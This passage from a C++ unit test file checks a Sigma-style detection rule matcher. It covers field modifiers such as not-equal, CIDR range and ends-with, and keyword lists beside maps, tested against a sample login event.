  EXPECT_TRUE(item_holds("'|neq': bob", kLogin));
  EXPECT_TRUE(item_holds("'|cidr': 10.0.0.0/8", {{"X", "10.1.1.1"}}));
  EXPECT_TRUE(item_holds("'': alice", kLogin));
}

TEST(Keywords, may_stand_beside_maps) {
  EXPECT_TRUE(testing::holds(
      testing::rule_text("s:\n  - bob\n  - Tool|endswith: .exe\n    Code: 4624\ncondition: s"), kLogin));
  EXPECT_FALSE(testing::holds(
      testing::rule_text("s:\n  - bob\n  - Tool|endswith: .exe\n    Code: 4625\ncondition: s"), kLogin));
}

}  // namespace
}  // namespace hinomi::detect::sigma
